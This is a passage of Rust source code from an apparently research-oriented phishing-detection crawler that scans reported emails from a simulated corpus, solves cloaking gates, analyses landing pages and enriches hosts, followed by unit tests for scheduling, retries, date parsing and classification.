                    for w in 0..workers {
                        let in_rx = in_rx.clone();
                        let out_tx = out_tx.clone();
                        scope.spawn(move |_| {
                            cb_telemetry::set_worker(Some(w));
                            for (idx, message) in in_rx.iter() {
                                let mut record = self.scan_caught(&message);
                                let encoded = encoder.encode(&mut record);
                                let bytes = message.raw.len() as u64;
                                drop(message);
                                if out_tx.send((idx, bytes, record, encoded)).is_err() {
                                    break;
                                }
                            }
                            cb_telemetry::set_worker(None);
                        });
                    }
                    drop(in_rx);
                    let token_rx = token_rx.clone();
                    scope.spawn(move |_| {
                        // The incremental filter runs before `enumerate`:
                        // delivery indexes must stay gap-free or the
                        // reorder buffer would wait forever on a skipped
                        // message's index.
                        for (idx, message) in
                            messages.filter(|m| !self.skip_known(m)).enumerate()
                        {
                            if token_rx.recv().is_err() {
                                break;
                            }
                            self.m.messages.incr();
                            self.note_admitted(message.raw.len() as u64);
                            if in_tx.send((idx, message)).is_err() {
                                break;
                            }
                        }
                        // `in_tx` drops here; workers drain and exit.
                    });
                }
                // Static chunking becomes round-robin in streaming form:
                // message `i` is pinned to worker `i % workers`, preserving
                // the scheduler's characteristic head-of-line blocking when
                // one worker's queue backs up on a slow message.
                Scheduler::StaticChunk => {
                    let per_worker = capacity.div_ceil(workers).max(1);
                    let mut queues = Vec::with_capacity(workers);
                    for w in 0..workers {
                        let (tx, rx) =
                            crossbeam::channel::bounded::<(usize, ReportedMessage)>(per_worker);
                        let out_tx = out_tx.clone();
                        scope.spawn(move |_| {
                            cb_telemetry::set_worker(Some(w));
                            for (idx, message) in rx.iter() {
                                let mut record = self.scan_caught(&message);
                                let encoded = encoder.encode(&mut record);
                                let bytes = message.raw.len() as u64;
                                drop(message);
                                if out_tx.send((idx, bytes, record, encoded)).is_err() {
                                    break;
                                }
                            }
                            cb_telemetry::set_worker(None);
                        });
                        queues.push(tx);
                    }
                    let token_rx = token_rx.clone();
                    scope.spawn(move |_| {
                        // Filter before `enumerate`: indexes must stay
                        // gap-free for the reorder buffer (and round-robin
                        // pinning should not waste turns on skipped work).
                        for (idx, message) in
                            messages.filter(|m| !self.skip_known(m)).enumerate()
                        {
                            if token_rx.recv().is_err() {
                                break;
                            }
                            self.m.messages.incr();
                            self.note_admitted(message.raw.len() as u64);
                            if queues[idx % workers].send((idx, message)).is_err() {
                                break;
                            }
                        }
                        // `queues` drop here; workers drain and exit.
                    });
                }
                Scheduler::Serial => unreachable!("serial streaming is handled inline"),
            }
            drop(out_tx);

            // Collector, on the calling thread: park out-of-order records,
            // deliver in message order, release one admission token per
            // delivery. Ends when every worker has dropped its `out_tx`.
            let mut reorder: std::collections::BTreeMap<usize, (u64, ScanRecord, E::Encoded)> =
                std::collections::BTreeMap::new();
            let mut next = 0usize;
            for (idx, bytes, record, encoded) in out_rx.iter() {
                reorder.insert(idx, (bytes, record, encoded));
                self.note_reorder_depth(reorder.len() as u64);
                while let Some((b, r, e)) = reorder.remove(&next) {
                    let mid = r.message_id;
                    sink.accept_encoded(r, e);
                    self.tracer.delivery(mid, vec![("order", delivered.to_string())]);
                    self.note_delivered(b);
                    let _ = token_tx.try_send(());
                    next += 1;
                    delivered += 1;
                }
            }
        });
        delivered
    }

    /// Note one message entering the streaming window.
    fn note_admitted(&self, bytes: u64) {
        self.m.in_flight.add(1);
        let retained = self.m.bytes_retained.add(bytes);
        self.m.bytes_window.observe(retained as i64);
    }

    /// Note one record leaving the streaming window (in-order delivery).
    fn note_delivered(&self, bytes: u64) {
        self.m.in_flight.sub(1);
        self.m.bytes_retained.sub(bytes);
    }

    /// Track the reorder buffer's depth (peak gauge + distribution).
    fn note_reorder_depth(&self, depth: u64) {
        self.m.reorder.note(depth);
        self.m.reorder_depth.observe(depth as i64);
    }

    /// Crawl one URL, solving what custom code can solve (math challenges,
    /// and OTP gates when the code is present in the message text). When
    /// the primary crawler sees nothing malicious, fallback components get
    /// a turn — a kit cloaking against one crawler's tells may reveal to
    /// another.
    fn crawl_one(
        &self,
        url: &str,
        message_text: &str,
        delivered_at: SimTime,
        ctx: &mut ScanCtx<'_>,
    ) -> VisitLog {
        let log = self.crawl_with(&self.browser, url, message_text, delivered_at, ctx);
        if log.login_form || log.outcome != cb_browser::engine::VisitOutcome::Loaded {
            return log;
        }
        for fallback in &self.fallbacks {
            let retry = self.crawl_with(fallback, url, message_text, delivered_at, ctx);
            if retry.login_form {
                return retry;
            }
        }
        log
    }

    /// The resilient crawl supervisor: run attempts of
    /// [`CrawlerBox::crawl_gates`] until one completes without transient
    /// faults, retries run out, or the visit budget is spent — backing off
    /// exponentially (deterministic jitter, `Retry-After` honoured) between
    /// attempts, and consulting the per-host circuit breaker first.
    fn crawl_with(
        &self,
        browser: &Browser,
        url: &str,
        message_text: &str,
        delivered_at: SimTime,
        ctx: &mut ScanCtx<'_>,
    ) -> VisitLog {
        // An unparseable URL (possible with corrupted messages) degrades
        // instead of reaching Browser::visit's validity panic.
        let Ok(parsed_url) = Url::parse(url) else {
            cb_telemetry::with_active(|t| {
                t.instant(
                    "visit.skipped",
                    vec![
                        ("url", url.to_string()),
                        ("reason", "unparseable-url".to_string()),
                    ],
                )
            });
            return invalid_url_log(url);
        };
        let host = parsed_url.host;
        if !ctx.breakers.allow(&host) {
            cb_telemetry::with_active(|t| {
                t.instant(
                    "visit.skipped",
                    vec![
                        ("url", url.to_string()),
                        ("reason", "breaker-open".to_string()),
                        ("host", host.clone()),
                    ],
                )
            });
            let mut log = invalid_url_log(url);
            log.error = Some(format!("circuit breaker open for {host}"));
            return log;
        }

        cb_telemetry::with_active(|t| {
            t.begin(
                "visit",
                vec![
                    ("url", url.to_string()),
                    ("profile", format!("{:?}", browser.profile())),
                ],
            )
        });
        let mut attempts: Vec<AttemptLog> = Vec::new();
        let mut total_elapsed = SimDuration::ZERO;
        let mut waited = SimDuration::ZERO;
        let mut attempt: u32 = 0;
        loop {
            cb_telemetry::with_active(|t| t.begin("attempt", vec![("n", attempt.to_string())]));
            let (visit, gates_solved) =
                self.crawl_gates(browser, url, message_text, attempt);
            total_elapsed = total_elapsed + visit.elapsed;
            ctx.breakers.elapse(visit.elapsed);
            self.m.faults.add(visit.transient_failures.len() as u64);
            attempts.push(AttemptLog {
                attempt,
                failures: visit.transient_failures.clone(),
                waited,
            });
            cb_telemetry::with_active(|t| {
                t.instant(
                    "attempt.result",
                    vec![
                        ("outcome", format!("{:?}", visit.outcome)),
                        ("faults", visit.transient_failures.len().to_string()),
                    ],
                );
                t.end();
            });

            let saw_faults = !visit.transient_failures.is_empty();
            let out_of_retries = attempt >= self.policy.max_retries;
            let out_of_budget = total_elapsed > self.policy.visit_budget;
            if !saw_faults || out_of_retries || out_of_budget {
                ctx.breakers.record(&host, !saw_faults);
                let mut log = self.log_visit(&visit, gates_solved, delivered_at, ctx);
                log.elapsed = total_elapsed;
                if saw_faults {
                    let last = visit
                        .transient_failures
                        .last()
                        .cloned()
                        .unwrap_or_default();
                    log.error = Some(if out_of_budget {
                        format!(
                            "visit budget exhausted after {} attempts; last fault: {last}",
                            attempts.len()
                        )
                    } else {
                        format!(
                            "transient faults after {} attempts; last fault: {last}",
                            attempts.len()
                        )
                    });
                }
                log.attempts = attempts;
                self.m.visit_latency.observe(total_elapsed.as_seconds());
                cb_telemetry::with_active(|t| {
                    t.instant(
                        "visit.done",
                        vec![
                            ("outcome", format!("{:?}", log.outcome)),
                            ("attempts", log.attempts.len().to_string()),
                            ("elapsed_s", total_elapsed.as_seconds().to_string()),
                        ],
                    );
                    t.end();
                });
                return log;
            }

            attempt += 1;
            waited = self.policy.backoff(url, attempt, visit.retry_after);
            total_elapsed = total_elapsed + waited;
            ctx.breakers.elapse(waited);
            self.m.backoff_waited.observe(waited.as_seconds());
            cb_telemetry::with_active(|t| {
                t.begin("backoff", vec![("waited_s", waited.as_seconds().to_string())]);
                t.advance(waited.as_seconds());
                t.end();
            });
        }
    }

    /// One attempt at a URL: the visit itself plus up to two gate-solving
    /// follow-up visits (all stamped with the same retry index). Transient
    /// faults seen by superseded gate hops carry over into the returned
    /// visit so the supervisor never loses evidence.
    fn crawl_gates(
        &self,
        browser: &Browser,
        url: &str,
        message_text: &str,
        attempt: u32,
    ) -> (Visit, Vec<String>) {
        let budget = self.policy.visit_budget;
        let mut visit = browser.visit_attempt(self.world, url, attempt, budget);
        let mut gates_solved = Vec::new();

        for _gate in 0..2 {
            if visit.outcome != VisitOutcome::InteractionRequired {
                break;
            }
            let Some(kind) = gate_kind(&visit) else {
                break;
            };
            let retry = match kind.as_str() {
                "math" => solve_math(&visit).map(|answer| {
                    with_param(visit.final_url().to_string().as_str(), "answer", &answer)
                }),
                "otp" => find_otp(message_text)
                    .map(|code| with_param(visit.final_url().to_string().as_str(), "otp", &code)),
                _ => None,
            };
            match retry {
                Some(retry_url) => {
                    gates_solved.push(kind);
                    let prior_failures = std::mem::take(&mut visit.transient_failures);
                    let prior_elapsed = visit.elapsed;
                    visit = browser.visit_attempt(self.world, &retry_url, attempt, budget);
                    visit.transient_failures.splice(0..0, prior_failures);
                    visit.elapsed = visit.elapsed + prior_elapsed;
                }
                None => break,
            }
        }

        (visit, gates_solved)
    }

    fn log_visit(
        &self,
        visit: &Visit,
        gates_solved: Vec<String>,
        delivered_at: SimTime,
        ctx: &mut ScanCtx<'_>,
    ) -> VisitLog {
        // Screenshot analysis depends only on the pixels, so it memoizes on
        // the bitmap's content fingerprint. The login-form filter depends
        // on the visited page, not the pixels, and stays outside the cache.
        if self.capture_artifacts {
            if let Some(shot) = visit.screenshot.as_ref() {
                let bytes = shot.to_bytes();
                ctx.artifacts.push(CapturedArtifact {
                    kind: ArtifactKind::Screenshot,
                    hash: fingerprint::fnv128(&bytes),
                    bytes,
                });
            }
        }
        let (screenshot_hash, spear) = match visit.screenshot.as_ref() {
            None => (None, None),
            Some(shot) => {
                // The shared shot cache is cross-message, so hit/miss is an
                // advisory trace fact; the event itself (one per shot) is
                // deterministic.
                let shot_event = |cache: &str| {
                    cb_telemetry::with_active(|t| {
                        t.instant_adv("screenshot", Vec::new(), vec![("cache", cache.to_string())])
                    });
                };
                let analysis = if self.caching {
                    let key = shot.content_fingerprint();
                    let cached = self.shots.read().get(&key).copied();
                    match cached {
                        Some(a) => {
                            self.m.shot_hits.incr();
                            shot_event("hit");
                            a
                        }
                        None => {
                            self.m.shot_misses.incr();
                            shot_event("miss");
                            let a = (HashPair::of(shot), self.classifier.classify(shot));
                            self.shots.write().insert(key, a);
                            a
                        }
                    }
                } else {
                    shot_event("off");
                    (HashPair::of(shot), self.classifier.classify(shot))
                };
                (
                    Some(analysis.0),
                    analysis.1.filter(|_| visit.shows_login_form()),
                )
            }
        };
        let hue_rotated = visit
            .document
            .as_ref()
            .map(|d| {
                ["body", "html"].iter().any(|t| {
                    d.elements(t)
                        .first()
                        .and_then(|n| n.attr("style"))
                        .map(|s| s.contains("hue-rotate"))
                        .unwrap_or(false)
                })
            })
            .unwrap_or(false);

        // Host enrichment is pure in `(host, delivered_at, window)`;
        // `delivered_at` and the window are fixed for the whole scan, so
        // the per-scan cache keys on host alone.
        let landing_host = visit.final_url().host.clone();
        let window = SimDuration::days(30);
        let enrichment = if self.caching {
            // The enrichment cache is scan-local, so its hit/miss pattern is
            // deterministic and may carry into canonical traces.
            match ctx.enrich.entry(landing_host) {
                Entry::Occupied(o) => {
                    self.m.enrich_hits.incr();
                    cb_telemetry::with_active(|t| {
                        t.instant(
                            "enrich.cache",
                            vec![("host", o.key().clone()), ("cache", "hit".to_string())],
                        )
                    });
                    o.get().clone()
                }
                Entry::Vacant(v) => {
                    self.m.enrich_misses.incr();
                    cb_telemetry::with_active(|t| {
                        t.instant(
                            "enrich.cache",
                            vec![("host", v.key().clone()), ("cache", "miss".to_string())],
                        )
                    });
                    let e = self.world.enrich(v.key(), delivered_at, window);
                    v.insert(e).clone()
                }
            }
        } else {
            self.world.enrich(&landing_host, delivered_at, window)
        };
        let HostEnrichment {
            whois,
            first_certificate: cert,
            dns_volume,
            banner,
        } = enrichment;
        // A stable certificate identity for campaign clustering: serial,
        // subject and notBefore hashed together — a pure function of the
        // certificate, so identical across schedulers and cache settings.
        let cert_fingerprint = cert.as_ref().map(|c| {
            fingerprint::fnv128_iter(
                c.serial
                    .to_be_bytes()
                    .into_iter()
                    .chain(c.domain.to_string().into_bytes())
                    .chain(c.issued_at.as_unix().to_be_bytes()),
            ) as u64
        });

        VisitLog {
            requested_url: visit.requested_url.to_string(),
            chain: visit
                .chain
                .iter()
                .map(|(u, s)| (u.to_string(), *s))
                .collect(),
            outcome: visit.outcome,
            status: visit.status,
            login_form: visit.shows_login_form(),
            screenshot_hash,
            spear,
            subresources: visit
                .subresources
                .iter()
                .map(|(u, s)| (u.to_string(), *s))
                .collect(),
            exfil: visit.exfil.clone(),
            console_hijacked: visit.console_hijacked,
            debugger_hits: visit.debugger_hits,
            gates_solved,
            domain_registered_at: whois.as_ref().map(|w| w.registered_at),
            registrar: whois.map(|w| w.registrar),
            cert_issued_at: cert.map(|c| c.issued_at),
            dns_volume: Some(dns_volume),
            banner,
            cert_fingerprint,
            hue_rotated,
            attempts: Vec::new(),
            elapsed: visit.elapsed,
            error: None,
        }
    }
}

/// A placeholder log for a URL that was never visited (unparseable, or the
/// host's circuit breaker was open).
fn invalid_url_log(url: &str) -> VisitLog {
    VisitLog {
        requested_url: url.to_string(),
        chain: Vec::new(),
        outcome: VisitOutcome::Unreachable,
        status: 0,
        login_form: false,
        screenshot_hash: None,
        spear: None,
        subresources: Vec::new(),
        exfil: Vec::new(),
        console_hijacked: false,
        debugger_hits: 0,
        gates_solved: Vec::new(),
        domain_registered_at: None,
        registrar: None,
        cert_issued_at: None,
        dns_volume: None,
        banner: None,
        cert_fingerprint: None,
        hue_rotated: false,
        attempts: Vec::new(),
        elapsed: SimDuration::ZERO,
        error: Some(format!("not visited: {url}")),
    }
}

/// The degraded record `scan_all` emits for a message whose scan panicked.
fn degraded_record(message: &ReportedMessage, reason: &str) -> ScanRecord {
    ScanRecord {
        message_id: message.id,
        content_hash: message_content_hash(&message.raw),
        delivered_at: message.delivered_at,
        auth_pass: false,
        extracted: Vec::new(),
        visits: Vec::new(),
        body_bytes: message.raw.len(),
        blank_line_run: 0,
        class: MessageClass::NoResource,
        error: Some(format!("scan panicked: {reason}")),
        artifacts: Vec::new(),
    }
}

/// Human-readable text of a caught panic payload.
fn panic_text(payload: &(dyn std::any::Any + Send)) -> String {
    if let Some(s) = payload.downcast_ref::<&str>() {
        (*s).to_string()
    } else if let Some(s) = payload.downcast_ref::<String>() {
        s.clone()
    } else {
        "non-string panic payload".to_string()
    }
}

/// Derive the §V message class from what the scan observed.
fn derive_class(
    extracted: &[crate::extract::ExtractedResource],
    visits: &[VisitLog],
) -> MessageClass {
    if extracted.is_empty() {
        return MessageClass::NoResource;
    }
    if visits
        .iter()
        .any(|v| v.outcome == VisitOutcome::Loaded && v.login_form)
    {
        return MessageClass::ActivePhish;
    }
    if visits.iter().any(|v| v.outcome == VisitOutcome::Download) {
        return MessageClass::Download;
    }
    if visits
        .iter()
        .any(|v| v.outcome == VisitOutcome::InteractionRequired)
    {
        return MessageClass::InteractionRequired;
    }
    MessageClass::ErrorPage
}

/// The gate kind marker on the final page.
fn gate_kind(visit: &Visit) -> Option<String> {
    visit.document.as_ref().and_then(|d| {
        d.walk()
            .iter()
            .find_map(|n| n.attr("data-requires-interaction").map(str::to_string))
    })
}

/// Solve a "What is X + Y?" math challenge from the gate prompt.
fn solve_math(visit: &Visit) -> Option<String> {
    let text = visit.document.as_ref()?.visible_text();
    let idx = text.find("What is ")?;
    let rest = &text[idx + 8..];
    let end = rest.find('?')?;
    let expr = &rest[..end];
    let (a, b) = expr.split_once('+')?;
    let sum = a.trim().parse::<i64>().ok()? + b.trim().parse::<i64>().ok()?;
    Some(sum.to_string())
}

/// Find a one-time code in the message text ("access code: 123456").
fn find_otp(text: &str) -> Option<String> {
    let marker = cb_phishgen::messages::ACCESS_CODE_PREFIX;
    // Slice the lowercased text, not the original: case folding can change
    // byte lengths (e.g. 'İ'), so indexes into `lower` are only valid in
    // `lower` — digits are unaffected by folding.
    let lower = text.to_lowercase();
    let idx = lower.find(marker)?;
    let rest = &lower[idx + marker.len()..];
    let code: String = rest
        .trim_start()
        .chars()
        .take_while(|c| c.is_ascii_digit())
        .collect();
    (code.len() >= 4).then_some(code)
}

/// Append a query parameter respecting existing query strings and keeping
/// any fragment after the parameter (servers never see fragments).
fn with_param(url: &str, name: &str, value: &str) -> String {
    let (base, fragment) = match url.split_once('#') {
        Some((b, f)) => (b, Some(f)),
        None => (url, None),
    };
    let sep = if base.contains('?') { '&' } else { '?' };
    match fragment {
        Some(f) => format!("{base}{sep}{name}={value}#{f}"),
        None => format!("{base}{sep}{name}={value}"),
    }
}

/// All text content of a message's leaves (for OTP search).
fn collect_text(msg: &MimeEntity) -> String {
    msg.leaves()
        .iter()
        .filter_map(|l| l.body_text())
        .collect::<Vec<_>>()
        .join("\n")
}

/// Maximum run of consecutive blank lines in the message body.
fn blank_run(msg: &MimeEntity) -> usize {
    let text = collect_text(msg);
    let mut best = 0usize;
    let mut run = 0usize;
    for line in text.lines() {
        if line.trim().is_empty() {
            run += 1;
            best = best.max(run);
        } else {
            run = 0;
        }
    }
    best
}

/// Parse the corpus `Date:` header format (`DD Mon YYYY HH:MM:SS +0000`),
/// honouring non-UTC offsets: `14:05 +0200` is normalised to `12:05` UTC.
/// An absent or malformed zone token is read as UTC — before this
/// normalisation such dates silently mis-timed the §V-A timedelta
/// analysis.
fn parse_date(s: &str) -> Option<SimTime> {
    let mut parts = s.split_whitespace();
    let day: u32 = parts.next()?.parse().ok()?;
    let month = match parts.next()? {
        "Jan" => 1,
        "Feb" => 2,
        "Mar" => 3,
        "Apr" => 4,
        "May" => 5,
        "Jun" => 6,
        "Jul" => 7,
        "Aug" => 8,
        "Sep" => 9,
        "Oct" => 10,
        "Nov" => 11,
        "Dec" => 12,
        _ => return None,
    };
    let year: i64 = parts.next()?.parse().ok()?;
    let mut hms = parts.next()?.split(':');
    let h: u32 = hms.next()?.parse().ok()?;
    let m: u32 = hms.next()?.parse().ok()?;
    let sec: u32 = hms.next()?.parse().ok()?;
    let local = SimTime::from_ymd_hms(year, month, day, h, m, sec);
    Some(match parts.next().and_then(tz_offset) {
        Some(offset) => local - offset,
        None => local,
    })
}

/// Parse a `+HHMM`/`-HHMM` zone token into its offset from UTC.
fn tz_offset(token: &str) -> Option<SimDuration> {
    let (sign, digits) = match token.strip_prefix('+') {
        Some(d) => (1i64, d),
        None => (-1i64, token.strip_prefix('-')?),
    };
    if digits.len() != 4 || !digits.bytes().all(|b| b.is_ascii_digit()) {
        return None;
    }
    let hh: i64 = digits[..2].parse().ok()?;
    let mm: i64 = digits[2..].parse().ok()?;
    Some(SimDuration::seconds(sign * (hh * 3600 + mm * 60)))
}

#[cfg(test)]
mod tests {
    use super::*;
    use cb_phishgen::{Corpus, CorpusSpec};

    fn corpus() -> Corpus {
        Corpus::generate(&CorpusSpec::paper().with_scale(0.02), 99)
    }

    #[test]
    fn classes_match_ground_truth() {
        let corpus = corpus();
        let cbx = CrawlerBox::new(&corpus.world);
        let mut agreement = 0usize;
        for m in &corpus.messages {
            let record = cbx.scan(m);
            if record.class == m.truth.class {
                agreement += 1;
            }
        }
        let rate = agreement as f64 / corpus.messages.len() as f64;
        assert!(
            rate > 0.95,
            "class agreement {rate} ({agreement}/{})",
            corpus.messages.len()
        );
    }

    #[test]
    fn active_spear_messages_classify_as_spear() {
        let corpus = corpus();
        let cbx = CrawlerBox::new(&corpus.world);
        let spear_msg = corpus
            .messages
            .iter()
            .find(|m| m.truth.spear && m.truth.class == cb_phishgen::MessageClass::ActivePhish)
            .expect("a spear message");
        let record = cbx.scan(spear_msg);
        assert_eq!(record.class, cb_phishgen::MessageClass::ActivePhish);
        assert!(
            record.spear_match().is_some(),
            "spear lookalike must classify: {:?}",
            record.visits.iter().map(|v| (&v.requested_url, v.outcome, v.login_form)).collect::<Vec<_>>()
        );
    }

    #[test]
    fn auth_results_parsed() {
        let corpus = corpus();
        let cbx = CrawlerBox::new(&corpus.world);
        let record = cbx.scan(&corpus.messages[0]);
        assert!(record.auth_pass);
    }

    #[test]
    fn scan_all_parallel_matches_serial() {
        let corpus = corpus();
        let cbx = CrawlerBox::new(&corpus.world);
        let subset = &corpus.messages[..20.min(corpus.messages.len())];
        let parallel = cbx.scan_all(subset);
        for (p, m) in parallel.iter().zip(subset) {
            let s = cbx.scan(m);
            assert_eq!(p.message_id, s.message_id);
            assert_eq!(p.class, s.class);
            assert_eq!(p.extracted, s.extracted);
        }
    }

    #[test]
    fn date_header_round_trips() {
        let t = SimTime::from_ymd_hms(2024, 7, 9, 14, 5, 33);
        let s = cb_phishgen::messages::date_header(t);
        assert_eq!(parse_date(&s), Some(t));
    }

    #[test]
    fn date_header_normalises_positive_offset() {
        // 14:05:33 +0200 is 12:05:33 UTC.
        assert_eq!(
            parse_date("9 Jul 2024 14:05:33 +0200"),
            Some(SimTime::from_ymd_hms(2024, 7, 9, 12, 5, 33))
        );
    }

    #[test]
    fn date_header_normalises_negative_offset() {
        // 14:05:33 -0500 is 19:05:33 UTC.
        assert_eq!(
            parse_date("9 Jul 2024 14:05:33 -0500"),
            Some(SimTime::from_ymd_hms(2024, 7, 9, 19, 5, 33))
        );
    }

    #[test]
    fn date_header_offset_round_trips_across_midnight() {
        // 00:30 +0200 lands on the previous day in UTC.
        assert_eq!(
            parse_date("9 Jul 2024 00:30:00 +0200"),
            Some(SimTime::from_ymd_hms(2024, 7, 8, 22, 30, 0))
        );
    }

    #[test]
    fn malformed_timezone_reads_as_utc() {
        let utc = Some(SimTime::from_ymd_hms(2024, 7, 9, 14, 5, 33));
        assert_eq!(parse_date("9 Jul 2024 14:05:33 GMT"), utc);
        assert_eq!(parse_date("9 Jul 2024 14:05:33 +02"), utc);
        assert_eq!(parse_date("9 Jul 2024 14:05:33"), utc);
    }

    #[test]
    fn default_policy_preserves_seed_behaviour() {
        let p = ScanPolicy::default();
        assert_eq!(p.max_urls_per_message, 4);
        assert!(p.max_retries > 0);
        assert_eq!(
            CrawlerBox::new(&corpus().world).policy(),
            &ScanPolicy::default()
        );
    }

    #[test]
    fn policy_builders_set_knobs() {
        let p = ScanPolicy::default()
            .with_max_urls(2)
            .with_max_retries(0)
            .with_backoff(SimDuration::seconds(1), SimDuration::seconds(8))
            .with_visit_budget(SimDuration::minutes(5))
            .with_breaker(2, SimDuration::seconds(30));
        assert_eq!(p.max_urls_per_message, 2);
        assert_eq!(p.max_retries, 0);
        assert_eq!(p.backoff_base, SimDuration::seconds(1));
        assert_eq!(p.backoff_cap, SimDuration::seconds(8));
        assert_eq!(p.visit_budget, SimDuration::minutes(5));
        assert_eq!(p.breaker_threshold, 2);
        assert_eq!(p.breaker_cooldown, SimDuration::seconds(30));
    }

    #[test]
    fn backoff_grows_caps_and_honours_retry_after() {
        let p = ScanPolicy::default();
        let url = "https://h.example/p";
        let d1 = p.backoff(url, 1, None);
        let d3 = p.backoff(url, 3, None);
        assert!(d1 >= p.backoff_base);
        assert!(d3 >= d1, "exponential growth: {d3:?} < {d1:?}");
        let d_huge = p.backoff(url, 12, None);
        assert!(
            d_huge <= p.backoff_cap + p.backoff_base,
            "cap plus jitter bounds the delay"
        );
        assert!(p.backoff(url, 1, Some(500)) >= SimDuration::seconds(500));
        // Deterministic: same (url, attempt) -> same delay.
        assert_eq!(p.backoff(url, 2, None), p.backoff(url, 2, None));
    }

    #[test]
    fn breaker_trips_after_threshold_and_half_opens() {
        let policy = ScanPolicy::default().with_breaker(3, SimDuration::seconds(60));
        let mut bank = BreakerBank::new(&policy);
        for _ in 0..3 {
            assert!(bank.allow("bad.example"));
            bank.record("bad.example", false);
        }
        assert!(!bank.allow("bad.example"), "tripped after 3 failures");
        assert!(bank.allow("other.example"), "breakers are per-host");
        // Cooldown passes -> half-open probe allowed.
        bank.elapse(SimDuration::seconds(61));
        assert!(bank.allow("bad.example"), "half-open after cooldown");
        // A failing probe re-opens immediately.
        bank.record("bad.example", false);
        assert!(!bank.allow("bad.example"));
        // Another cooldown, then a successful probe closes it for good.
        bank.elapse(SimDuration::seconds(61));
        assert!(bank.allow("bad.example"));
        bank.record("bad.example", true);
        assert!(bank.allow("bad.example"));
    }

    #[test]
    fn scan_caught_isolates_panics() {
        // An unparseable URL must degrade, not panic — and even if a panic
        // does escape a scan, scan_caught converts it into a record.
        let corpus = corpus();
        let cbx = CrawlerBox::new(&corpus.world);
        let record = cbx.scan_caught(&corpus.messages[0]);
        assert!(record.error.is_none(), "healthy scans are unaffected");
    }

    #[test]
    fn unparseable_extracted_url_degrades_not_panics() {
        let corpus = corpus();
        let cbx = CrawlerBox::new(&corpus.world);
        let mut ctx = ScanCtx::new(&cbx.policy);
        let log = cbx.crawl_one("http://", "", SimTime::EPOCH, &mut ctx);
        assert_eq!(log.outcome, VisitOutcome::Unreachable);
        assert!(log.error.is_some());
    }

    #[test]
    fn scheduler_and_caching_builders_set_knobs() {
        let corpus = corpus();
        let cbx = CrawlerBox::new(&corpus.world);
        assert_eq!(cbx.scheduler(), Scheduler::WorkStealing, "default");
        assert!(cbx.caching_enabled(), "caches default on");
        let cbx = cbx
            .with_scheduler(Scheduler::StaticChunk)
            .with_caching(false);
        assert_eq!(cbx.scheduler(), Scheduler::StaticChunk);
        assert!(!cbx.caching_enabled());
    }

    #[test]
    fn every_scheduler_and_cache_setting_is_bit_identical() {
        let corpus = corpus();
        let subset = &corpus.messages[..24.min(corpus.messages.len())];
        let reference: Vec<ScanRecord> = {
            let cbx = CrawlerBox::new(&corpus.world)
                .with_scheduler(Scheduler::Serial)
                .with_caching(false);
            subset.iter().map(|m| cbx.scan(m)).collect()
        };
        let reference_json = serde_json::to_string(&reference).unwrap();
        for scheduler in [
            Scheduler::Serial,
            Scheduler::StaticChunk,
            Scheduler::WorkStealing,
        ] {
            for caching in [false, true] {
                let cbx = CrawlerBox::new(&corpus.world)
                    .with_scheduler(scheduler)
                    .with_caching(caching);
                let records = cbx.scan_all(subset);
                assert_eq!(
                    serde_json::to_string(&records).unwrap(),
                    reference_json,
                    "{scheduler:?} caching={caching} diverged from serial cache-free"
                );
            }
        }
    }

    #[test]
    fn scan_stream_matches_scan_all_and_bounds_residency() {
        let corpus = corpus();
        let subset: Vec<cb_phishgen::ReportedMessage> =
            corpus.messages[..24.min(corpus.messages.len())].to_vec();
        let batch_json = {
            let cbx = CrawlerBox::new(&corpus.world)
                .with_scheduler(Scheduler::Serial)
                .with_caching(false);
            serde_json::to_string(&cbx.scan_all(&subset)).unwrap()
        };
        for scheduler in [
            Scheduler::Serial,
            Scheduler::StaticChunk,
            Scheduler::WorkStealing,
        ] {
            let cbx = CrawlerBox::new(&corpus.world)
                .with_scheduler(scheduler)
                .with_stream_capacity(4);
            let mut out: Vec<ScanRecord> = Vec::new();
            let n = cbx.scan_stream(subset.iter().cloned(), &mut out);
            assert_eq!(n, subset.len());
            assert_eq!(
                serde_json::to_string(&out).unwrap(),
                batch_json,
                "{scheduler:?} streaming diverged from batch"
            );
            let stats = cbx.stats();
            let bound = (cbx.stream_capacity() + cbx.parallelism) as u64;
            assert!(
                (1..=bound).contains(&stats.peak_in_flight),
                "{scheduler:?} peak in-flight {} outside 1..={bound}",
                stats.peak_in_flight
            );
            assert!(
                stats.peak_reorder <= bound,
                "{scheduler:?} reorder depth {} exceeds window {bound}",
                stats.peak_reorder
            );
            assert_eq!(stats.messages, subset.len() as u64);
        }
    }

    #[test]
    fn stream_capacity_builder_clamps_to_one() {
        let corpus = corpus();
        let cbx = CrawlerBox::new(&corpus.world).with_stream_capacity(0);
        assert_eq!(cbx.stream_capacity(), 1);
    }

    #[test]
    fn stats_count_messages_and_cache_traffic() {
        let corpus = corpus();
        let subset = &corpus.messages[..12.min(corpus.messages.len())];
        let cbx = CrawlerBox::new(&corpus.world);
        let _ = cbx.scan_all(subset);
        let stats = cbx.stats();
        assert_eq!(stats.messages, subset.len() as u64);
        assert!(
            stats.enrich_hits + stats.enrich_misses > 0,
            "scans with visits must touch the enrichment cache: {stats}"
        );
        // Cache-off boxes report no cache traffic at all.
        let off = CrawlerBox::new(&corpus.world)
            .with_scheduler(Scheduler::Serial)
            .with_caching(false);
        let _ = off.scan_all(subset);
        let s = off.stats();
        assert_eq!(s.steals, 0, "serial scheduler never steals");
        assert_eq!(
            (
                s.enrich_hits,
                s.enrich_misses,
                s.artifact_hits,
                s.artifact_misses,
                s.screenshot_hits,
                s.screenshot_misses
            ),
            (0, 0, 0, 0, 0, 0),
            "caching off bypasses every cache: {s}"
        );
    }

    #[test]
    fn repeated_identical_screenshots_hit_the_shot_cache() {
        let corpus = corpus();
        let cbx = CrawlerBox::new(&corpus.world);
        let msg = &corpus.messages[0];
        let first = cbx.scan(msg);
        let again = cbx.scan(msg);
        assert_eq!(
            serde_json::to_string(&first).unwrap(),
            serde_json::to_string(&again).unwrap()
        );
        let stats = cbx.stats();
        if stats.screenshot_misses > 0 {
            assert!(
                stats.screenshot_hits >= stats.screenshot_misses,
                "second scan of the same message must replay cached shots: {stats}"
            );
        }
    }

    #[test]
    fn otp_extraction_from_text() {
        assert_eq!(
            find_otp("Your one-time access code: 491827\nthanks"),
            Some("491827".to_string())
        );
        assert_eq!(find_otp("no code here"), None);
        assert_eq!(find_otp("access code: 12"), None, "too short");
    }

    #[test]
    fn math_solver() {
        assert_eq!(with_param("https://a.example/x", "answer", "42"), "https://a.example/x?answer=42");
        assert_eq!(
            with_param("https://a.example/x?victim=v", "otp", "1"),
            "https://a.example/x?victim=v&otp=1"
        );
    }

    #[test]
